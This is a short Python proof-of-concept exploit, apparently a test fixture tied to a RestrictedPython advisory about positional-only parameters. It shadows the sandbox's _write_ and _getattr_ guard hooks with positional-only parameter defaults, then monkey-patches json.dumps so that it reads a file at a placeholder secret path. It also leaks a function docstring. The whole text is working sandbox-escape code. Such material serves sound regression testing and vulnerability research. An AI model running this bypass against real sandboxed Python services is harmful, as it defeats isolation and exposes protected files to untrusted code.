# family: RestrictedPython advisories (GHSA-ffg3-p8fm-mjx2: positional-only parameters, fixed in 8.3)
# goal: shadow the _write_ / _getattr_ guard hooks with positional-only parameters and patch a module
import json


def poison(module, _write_=lambda obj: obj, /):
    module.dumps = lambda *args, **kwargs: open("__SECRET_PATH__").read()


poison(json)
print(json.dumps({}))
leak = lambda f, _getattr_=lambda obj, name: obj, /: f.__doc__  # noqa: E731
print(leak(json.dumps))
